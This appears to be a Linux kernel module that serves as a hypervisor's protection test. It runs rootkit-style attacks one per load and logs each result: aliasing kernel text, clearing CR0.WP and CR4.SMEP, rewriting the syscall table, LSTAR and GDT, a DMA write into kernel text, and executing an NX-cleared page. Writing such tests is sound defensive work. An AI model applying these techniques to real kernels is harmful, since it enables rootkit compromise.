// SPDX-License-Identifier: GPL-2.0
/*
 * protect_attack: what a rootkit does to a running kernel, one attack per insmod, for
 * SharpVisor's kernel protection test (docs/security.md). Each attack prints one line,
 *   PROTECT-ATTACK <name> result=succeeded|refused|n/a <detail>
 * and every store or register write that may be refused goes through an exception-table
 * fixup, so a refusal is an error code here, not an oops (except "exec", which can't be
 * fixed up: the offending insmod is killed, the guest keeps running). init succeeds (a
 * failing init makes busybox insmod retry through init_module, running the attack twice):
 * remove the module before the next attack.
 */
#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/mm.h>
#include <linux/vmalloc.h>
#include <linux/irqflags.h>
#include <linux/bio.h>
#include <linux/blkdev.h>
#include <linux/delay.h>
#include <linux/jiffies.h>
#include <linux/virtio.h>
#include <linux/virtio_config.h>
#include <asm/asm.h>
#include <asm/msr.h>
#include <asm/special_insns.h>
#include <asm/processor-flags.h>
#include <asm/pgtable.h>
#include <asm/tlbflush.h>
#include <asm/desc.h>
#include <asm/segment.h>

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("SharpVisor kernel protection test: attacks on a running kernel");

static char *attack = "";
module_param(attack, charp, 0);
MODULE_PARM_DESC(attack, "text-alias, cr0-wp, syscall-table, lstar, cr4-smep, gdt, gdt-tls, dma or exec");

static unsigned long syscall_table;
module_param(syscall_table, ulong, 0);
MODULE_PARM_DESC(syscall_table, "sys_call_table's address, from /proc/kallsyms (syscall-table)");

static char *disk = "/dev/vda";
module_param(disk, charp, 0);
MODULE_PARM_DESC(disk, "a virtio disk whose first sector the dma attack may overwrite (dma)");

static int store_u8(u8 *dst, u8 value)
{
	int err = -EFAULT;

	asm volatile("1: movb %[v], (%[d])\n"
		     "   xor %[e], %[e]\n"
		     "2:\n"
		     _ASM_EXTABLE(1b, 2b)
		     : [e] "+r" (err) : [v] "q" (value), [d] "r" (dst) : "memory");
	return err;
}

static int store_u64(u64 *dst, u64 value)
{
	int err = -EFAULT;

	asm volatile("1: movq %[v], (%[d])\n"
		     "   xor %[e], %[e]\n"
		     "2:\n"
		     _ASM_EXTABLE(1b, 2b)
		     : [e] "+r" (err) : [v] "r" (value), [d] "r" (dst) : "memory");
	return err;
}

/* Raw MOV to CR0/CR4: Linux's own write_cr0() would put pinned bits back. */
static int raw_write_cr0(unsigned long value)
{
	int err = -EFAULT;

	asm volatile("1: mov %[v], %%cr0\n"
		     "   xor %[e], %[e]\n"
		     "2:\n"
		     _ASM_EXTABLE(1b, 2b)
		     : [e] "+r" (err) : [v] "r" (value) : "memory");
	return err;
}

static int raw_write_cr4(unsigned long value)
{
	int err = -EFAULT;

	asm volatile("1: mov %[v], %%cr4\n"
		     "   xor %[e], %[e]\n"
		     "2:\n"
		     _ASM_EXTABLE(1b, 2b)
		     : [e] "+r" (err) : [v] "r" (value) : "memory");
	return err;
}

/* A second, writable mapping of the page behind a kernel-image address (what set_memory_rw gives an attacker). */
static void *writable_alias(unsigned long address)
{
	struct page *page = pfn_to_page(__pa(address) >> PAGE_SHIFT);
	void *map = vmap(&page, 1, VM_MAP, PAGE_KERNEL);

	return map ? map + offset_in_page(address) : NULL;
}

static void report(const char *name, int succeeded, const char *detail, long err)
{
	pr_info("PROTECT-ATTACK %s result=%s %s err=%ld\n", name, succeeded ? "succeeded" : "refused", detail, err);
}

static void attack_text_alias(void)
{
	/* The byte before a function: alignment padding, never executed. */
	u8 *text = (u8 *)vfree - 1;
	u8 old = READ_ONCE(*text), new = old ^ 0xff;
	u8 *alias = writable_alias((unsigned long)text);
	int err;

	if (!alias) {
		pr_info("PROTECT-ATTACK text-alias result=n/a vmap failed\n");
		return;
	}
	err = store_u8(alias, new);
	if (!err && READ_ONCE(*text) == new) {
		report("text-alias", 1, "kernel text byte changed through a writable alias", 0);
		store_u8(alias, old);
	} else {
		report("text-alias", 0, "kernel text unchanged", err);
	}
	vunmap((void *)((unsigned long)alias & PAGE_MASK));
}

static void attack_cr0_wp(void)
{
	unsigned long cr0 = read_cr0(), flags;
	u8 *text = (u8 *)vfree - 1;
	u8 old = READ_ONCE(*text);
	int err, wrote;

	local_irq_save(flags);
	err = raw_write_cr0(cr0 & ~X86_CR0_WP);
	if (!err && !(read_cr0() & X86_CR0_WP)) {
		/* WP clear: the read-only text mapping no longer stops a supervisor store. */
		wrote = store_u8(text, old ^ 0xff) == 0 && READ_ONCE(*text) == (u8)(old ^ 0xff);
		if (wrote)
			store_u8(text, old);
		raw_write_cr0(cr0);
		local_irq_restore(flags);
		report("cr0-wp", 1, wrote ? "CR0.WP cleared and kernel text written" : "CR0.WP cleared", 0);
		return;
	}
	local_irq_restore(flags);
	report("cr0-wp", 0, "CR0.WP still set", err);
}

static void attack_syscall_table(void)
{
	u64 *entry = (u64 *)syscall_table + 39; /* __NR_getpid */
	u64 old = READ_ONCE(*entry);
	unsigned long flags;
	u64 *alias = writable_alias((unsigned long)entry);
	int err;

	if (!alias) {
		pr_info("PROTECT-ATTACK syscall-table result=n/a vmap failed\n");
		return;
	}
	local_irq_save(flags);
	err = store_u64(alias, old ^ 0x10);
	if (!err && READ_ONCE(*entry) == (old ^ 0x10)) {
		store_u64(alias, old);
		local_irq_restore(flags);
		report("syscall-table", 1, "sys_call_table[__NR_getpid] rewritten", 0);
	} else {
		local_irq_restore(flags);
		report("syscall-table", 0, "sys_call_table unchanged", err);
	}
	vunmap((void *)((unsigned long)alias & PAGE_MASK));
}

static void attack_lstar(void)
{
	unsigned long flags;
	u64 old, now;
	int err;

	local_irq_save(flags);
	rdmsrl(MSR_LSTAR, old);
	err = wrmsrl_safe(MSR_LSTAR, old + 0x40);
	rdmsrl(MSR_LSTAR, now);
	if (now != old)
		wrmsrl(MSR_LSTAR, old);
	local_irq_restore(flags);
	report("lstar", now != old, now != old ? "LSTAR rewritten" : "LSTAR unchanged", err);
}

static void attack_cr4_smep(void)
{
	unsigned long cr4 = __read_cr4(), flags;
	int err, cleared;

	if (!(cr4 & X86_CR4_SMEP)) {
		pr_info("PROTECT-ATTACK cr4-smep result=n/a SMEP is not enabled on this CPU\n");
		return;
	}
	local_irq_save(flags);
	err = raw_write_cr4(cr4 & ~X86_CR4_SMEP);
	cleared = !err && !(__read_cr4() & X86_CR4_SMEP);
	if (cleared)
		raw_write_cr4(cr4);
	local_irq_restore(flags);
	report("cr4-smep", cleared, cleared ? "CR4.SMEP cleared" : "CR4.SMEP still set", err);
}

/*
 * The kernel code descriptor in this CPU's GDT, through the writable per-CPU alias Linux itself
 * uses for TLS (get_cpu_gdt_rw): DPL 3 would let user code reach ring 0 through a far call gate
 * or confuse IRET's checks. Restored at once if it lands.
 */
static void attack_gdt(void)
{
	unsigned long flags;
	u64 *cs, old, now;
	int err;

	local_irq_save(flags);
	cs = (u64 *)get_cpu_gdt_rw(smp_processor_id()) + GDT_ENTRY_KERNEL_CS;
	old = READ_ONCE(*cs);
	err = store_u64(cs, old | (3ULL << 45));
	now = READ_ONCE(*cs);
	if (now != old)
		store_u64(cs, old);
	local_irq_restore(flags);
	report("gdt", now != old, now != old ? "kernel CS descriptor rewritten (DPL 3)" : "kernel CS descriptor unchanged", err);
}

/*
 * What Linux does on every context switch: a TLS descriptor (GDT entry 12) of this CPU's GDT
 * written and put back. Must keep working under protection.
 */
static void attack_gdt_tls(void)
{
	unsigned long flags;
	u64 *tls, old, now;
	int err;

	local_irq_save(flags);
	tls = (u64 *)get_cpu_gdt_rw(smp_processor_id()) + GDT_ENTRY_TLS_MIN;
	old = READ_ONCE(*tls);
	err = store_u64(tls, old ^ 0x0000f20000000001ULL);
	now = READ_ONCE(*tls);
	store_u64(tls, old);
	local_irq_restore(flags);
	report("gdt-tls", now != old, now != old ? "TLS descriptor written" : "TLS descriptor unchanged", err);
}

/* The virtio device behind a block device (virtio_blk adds its disk under the virtio device), or NULL. */
static struct virtio_device *virtio_of(struct block_device *bdev)
{
	struct device *parent = disk_to_dev(bdev->bd_disk)->parent;

	return parent && parent->bus && !strcmp(parent->bus->name, "virtio") ? dev_to_virtio(parent) : NULL;
}

static int disk_io(struct block_device *bdev, blk_opf_t op, struct page *page, unsigned int offset)
{
	struct bio *bio = bio_alloc(bdev, 1, op, GFP_KERNEL);
	int err;

	bio->bi_iter.bi_sector = 0;
	if (bio_add_page(bio, page, SECTOR_SIZE, offset) != SECTOR_SIZE) {
		bio_put(bio);
		return -EIO;
	}
	err = submit_bio_wait(bio);
	bio_put(bio);
	return err;
}

/*
 * A disk read DMAed straight into kernel text: sector 0 of the disk first gets the 512 bytes of
 * text around the padding byte before vfree with that byte flipped (a write: the device reads
 * guest memory), then a read of sector 0 is submitted with the text page itself as its buffer.
 * Unprotected, the flipped byte lands in kernel text (and is put back through an alias).
 * Protected, the device refuses the descriptor and fails (DEVICE_NEEDS_RESET): the read never
 * completes. So the read's bi_end_io is bio_put (kernel code, not this module's, which may be
 * gone when a late completion comes) with a second reference held here: the count dropping to
 * one means it completed; the device's NEEDS_RESET status means it never will.
 */
static void attack_dma(void)
{
	const fmode_t mode = FMODE_READ | FMODE_WRITE;
	u8 *text = (u8 *)vfree - 1;
	unsigned int offset = offset_in_page(text) & ~(SECTOR_SIZE - 1);
	struct page *text_page = pfn_to_page(__pa(text) >> PAGE_SHIFT);
	u8 old = READ_ONCE(*text), new = old ^ 0xff;
	struct page *staging = alloc_page(GFP_KERNEL);
	struct block_device *bdev;
	struct virtio_device *vdev;
	unsigned long deadline;
	struct bio *bio;
	int err, completed = 0, failed = 0;
	u8 status = 0;

	if (!staging) {
		pr_info("PROTECT-ATTACK dma result=n/a no page\n");
		return;
	}
	bdev = blkdev_get_by_path(disk, mode, NULL);
	if (IS_ERR(bdev)) {
		pr_info("PROTECT-ATTACK dma result=n/a cannot open %s err=%ld\n", disk, PTR_ERR(bdev));
		__free_page(staging);
		return;
	}
	vdev = virtio_of(bdev);
	if (!vdev) {
		pr_info("PROTECT-ATTACK dma result=n/a %s is not a virtio disk\n", disk);
		goto out;
	}
	memcpy(page_address(staging), page_address(text_page) + offset, SECTOR_SIZE);
	((u8 *)page_address(staging))[offset_in_page(text) - offset] = new;
	err = disk_io(bdev, REQ_OP_WRITE | REQ_SYNC, staging, 0);
	if (err) {
		pr_info("PROTECT-ATTACK dma result=n/a writing sector 0 of %s failed err=%d\n", disk, err);
		goto out;
	}

	bio = bio_alloc(bdev, 1, REQ_OP_READ | REQ_SYNC, GFP_KERNEL);
	bio->bi_iter.bi_sector = 0;
	bio_add_page(bio, text_page, SECTOR_SIZE, offset);
	bio->bi_end_io = bio_put;
	bio_get(bio);
	submit_bio(bio);
	deadline = jiffies + 300 * HZ;
	while (time_before(jiffies, deadline)) {
		if (atomic_read(&bio->__bi_cnt) == 1) {
			completed = 1;
			break;
		}
		status = vdev->config->get_status(vdev);
		if (status & VIRTIO_CONFIG_S_NEEDS_RESET) {
			failed = 1;
			break;
		}
		msleep(10);
	}
	if (completed && !bio->bi_status && READ_ONCE(*text) == new) {
		u8 *alias = writable_alias((unsigned long)text);

		if (alias) {
			store_u8(alias, old);
			vunmap((void *)((unsigned long)alias & PAGE_MASK));
		}
		report("dma", 1, "a disk read DMAed a byte into kernel text", 0);
	} else {
		pr_info("PROTECT-ATTACK dma result=refused kernel text %s, read %s, virtio status=0x%x\n",
			READ_ONCE(*text) == old ? "unchanged" : "CHANGED",
			completed ? "completed" : failed ? "never completes (device needs reset)" : "timed out",
			status);
	}
	if (completed) {
		bio_put(bio);
	} else {
		/* The read is still queued on the failed device: it keeps the disk open and the bio. */
		__free_page(staging);
		return;
	}
out:
	blkdev_put(bdev, mode);
	__free_page(staging);
}

static void attack_exec(void)
{
	struct page *page = alloc_page(GFP_KERNEL);
	u8 *code = page ? vmap(&page, 1, VM_MAP, PAGE_KERNEL) : NULL;
	unsigned int level;
	pte_t *pte;

	if (!code) {
		pr_info("PROTECT-ATTACK exec result=n/a no page\n");
		return;
	}
	/* vmap() maps no-execute: clear NX in the PTE by hand, as a rootkit would. */
	pte = lookup_address((unsigned long)code, &level);
	if (!pte || level != PG_LEVEL_4K) {
		pr_info("PROTECT-ATTACK exec result=n/a no 4K PTE\n");
		return;
	}
	set_pte(pte, pte_mkexec(*pte));
	asm volatile("invlpg (%0)" : : "r" (code) : "memory");
	code[0] = 0xc3; /* ret */
	pr_info("PROTECT-ATTACK exec calling code at %px outside kernel text\n", code);
	((void (*)(void))code)();
	report("exec", 1, "ran code from a vmalloc page", 0);
	vunmap(code);
	__free_page(page);
}

static int __init protect_attack_init(void)
{
	if (!strcmp(attack, "text-alias"))
		attack_text_alias();
	else if (!strcmp(attack, "cr0-wp"))
		attack_cr0_wp();
	else if (!strcmp(attack, "syscall-table") && syscall_table)
		attack_syscall_table();
	else if (!strcmp(attack, "lstar"))
		attack_lstar();
	else if (!strcmp(attack, "cr4-smep"))
		attack_cr4_smep();
	else if (!strcmp(attack, "gdt"))
		attack_gdt();
	else if (!strcmp(attack, "gdt-tls"))
		attack_gdt_tls();
	else if (!strcmp(attack, "dma"))
		attack_dma();
	else if (!strcmp(attack, "exec"))
		attack_exec();
	else
		pr_info("PROTECT-ATTACK %s result=n/a unknown attack\n", attack);
	return 0;
}

static void __exit protect_attack_exit(void)
{
}

module_init(protect_attack_init);
module_exit(protect_attack_exit);
